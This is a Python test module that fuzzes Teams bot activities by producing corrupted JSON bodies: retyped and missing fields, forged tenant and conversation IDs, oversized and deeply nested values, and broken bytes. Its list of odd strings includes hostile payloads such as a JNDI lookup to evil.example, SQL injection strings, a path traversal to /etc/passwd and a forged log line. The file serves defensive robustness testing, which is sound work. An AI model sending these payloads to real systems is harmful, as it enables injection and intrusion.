"""Spoils activities: what comes out is bytes, since much of it is no activity and some no JSON."""

import json
import random
from collections.abc import Callable, MutableMapping, MutableSequence
from copy import deepcopy
from dataclasses import dataclass
from typing import Any

from tests.hostile.shapes import Activity

ODD = (
    "", " ", "\x00", "a\x00b", "\x1b[31mred", "\r\nERROR root: forged", "\u202egnp.exe", "\u2066x", "\ud800", "x\udfff",
    "\ufeff", "\u2028", "e" + "\u0301" * 400, "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 50, "<at>Everyone</at>",
    "[click](https://evil.example)", "**x**", "{{DATE(2020-01-01T00:00:00Z)}}", "${jndi:ldap://evil.example}",
    "' OR 1=1 --", "../../../../etc/passwd", "%00%0d%0a", "'; DROP TABLE runs; --", "\x7f\x80\x9b31m", "NaN",
    "\uff11\uff12",
    "room-1@contoso.com" * 40, "check " * 2_000, "\uffff", "0" * 400, "-1",
)
VALUES: tuple[Any, ...] = (
    None, True, False, 0, -1, 1.5, 1e308, 2 ** 63, 10 ** 400, float("nan"), float("inf"), [], {}, [[]], [None],
    {"": ""}, {"id": 7}, {"id": {"id": "x"}}, [{"id": None}], "x" * 5_000, "9" * 70_000, list(range(2_000)),
    {f"k{number}": number for number in range(2_000)},
)
IDS = ("id", "conversation", "from", "recipient", "replyToId", "channelData", "serviceUrl", "tenantId", "aadObjectId",
       "channelId")
Spoil = Callable[[random.Random, Activity], None]


@dataclass(frozen=True, slots=True)
class Mutant:
    """What is posted, and as what it is announced."""

    body: bytes
    content_type: str = "application/json"


def mutant(chance: random.Random, activity: Activity, earlier: list[bytes]) -> Mutant:
    """The activity, spoilt in one to three ways. ``earlier`` are bodies that were sent before; this one joins them."""
    if earlier and chance.random() < 0.05:
        return Mutant(chance.choice(earlier))
    for _ in range(chance.randint(1, 3)):
        chance.choice(_SPOILT)(chance, activity)
    text = json.dumps(activity, ensure_ascii=chance.random() < 0.7)
    body = _written(chance, text).encode("utf-8", "surrogatepass")
    if chance.random() < 0.06:
        body = _broken(chance, body)
    earlier.append(body)
    del earlier[:-50]
    kind = chance.choice(("text/plain", "application/json; charset=klingon", "")) if chance.random() < 0.03 else ""
    return Mutant(body, kind or "application/json")


def _places(value: Any) -> list[tuple[Any, Any]]:
    """Every container of an activity with a key or index in it."""
    found: list[tuple[Any, Any]] = []
    if isinstance(value, MutableMapping | MutableSequence):
        for key in list(value) if isinstance(value, MutableMapping) else range(len(value)):
            found.append((value, key))
            found += _places(value[key])
    return found


def _retyped(chance: random.Random, activity: Activity) -> None:
    holder, key = chance.choice(_places(activity))
    holder[key] = deepcopy(chance.choice(VALUES))


def _odd_text(chance: random.Random, activity: Activity) -> None:
    places = [(holder, key) for holder, key in _places(activity) if isinstance(holder[key], str)]
    holder, key = chance.choice(places or _places(activity))
    odd = chance.choice(ODD)
    holder[key] = odd if chance.random() < 0.5 else f"{holder[key]}{odd}"


def _missing(chance: random.Random, activity: Activity) -> None:
    holder, key = chance.choice(_places(activity))
    if isinstance(holder, MutableMapping) and len(activity) > 1:
        del holder[key]


def _huge(chance: random.Random, activity: Activity) -> None:
    holder, key = chance.choice(_places(activity))
    holder[key] = chance.choice("xA\u00e9\u4e1c<*\\\n") * chance.choice((600, 5_000, 60_000))


def _spliced(chance: random.Random, activity: Activity) -> None:
    places = _places(activity)
    (holder, key), (other, name) = chance.choice(places), chance.choice(places)
    holder[key] = json.loads(json.dumps(other[name]))


def _as_number(chance: random.Random, activity: Activity) -> None:
    activity[chance.choice(IDS)] = chance.choice((0, 1, -7, 2 ** 70, 3.5))


def _of_another_tenant(chance: random.Random, activity: Activity) -> None:
    activity["channelData"] = {"tenant": {"id": chance.choice(("other", "", 7, None, ["x"]))}}


def _out_of_place(chance: random.Random, activity: Activity) -> None:
    activity["conversation"] = {"id": chance.choice(("19:abc@thread.tacv2", "a:1", "x" * 2_000, "a/../../b", "?x=1#y")),
                                "conversationType": chance.choice(("channel", "personal", "groupChat", "x", 3, None))}


def _forged(chance: random.Random, activity: Activity) -> None:
    """An id of somebody else, another verb, one field more, another version."""
    value = activity.get("value")
    action = value.get("action") if isinstance(value, dict) else None
    payload = action.get("data") if isinstance(action, dict) else value
    if not isinstance(payload, dict):
        return
    payload[chance.choice(("report", "run", "dialog_id", "alert", "offer", "room", "verb", "roomcheck", "more",
                           "field.x", "copy.x", "choice", "rooms", "finding", "dialog"))] = chance.choice(
        ("r1-0", "d1", "../x", "check", "doctor", "1", 2, True, 1.0, None, ["x"] * 30, {"a": "b"}, "x" * 400,
         "room-1@contoso.com", "collect_logs", "guided_fix", "pick_room", "watch_rooms", "room_of_upload",
         "file_offer"))


def _unknown(chance: random.Random, activity: Activity) -> None:
    activity["type"] = chance.choice(("invoke", "message", "event", "installationUpdate", "conversationUpdate", "x"))
    activity["name"] = chance.choice(("adaptiveCard/action", "fileConsent/invoke", "task/submit", "x", ""))


_SPOILT: tuple[Spoil, ...] = (_retyped, _retyped, _odd_text, _odd_text, _missing, _missing, _huge, _spliced, _as_number,
                              _of_another_tenant, _out_of_place, _forged, _forged, _unknown)


def _written(chance: random.Random, text: str) -> str:
    """Sometimes with a name twice, or nested deeper than any reader goes."""
    kind = chance.random()
    if kind < 0.04:
        return text[:-1] + f', "{chance.choice(IDS)}": {chance.choice(("7", "null", "[]", chr(34) * 2))}}}'
    if kind < 0.07:
        deep = chance.choice((20, 900, 50_000))
        return text[:-1] + ', "value": ' + '{"a":' * deep + "1" + "}" * deep + "}"
    if kind < 0.09:
        deep = chance.choice((20, 900, 50_000))
        return text[:-1] + ', "entities": ' + "[" * deep + "]" * deep + "}"
    return text


def _broken(chance: random.Random, body: bytes) -> bytes:
    if chance.random() < 0.3:
        return chance.choice((b"", b"null", b"[]", b"{}", b"\xff\xfe{", b"\xef\xbb\xbf" + body, body[:len(body) // 2]))
    spoilt = bytearray(body)
    for _ in range(chance.randint(1, 20)):
        spoilt[chance.randrange(len(spoilt))] = chance.randrange(256)
    return bytes(spoilt)
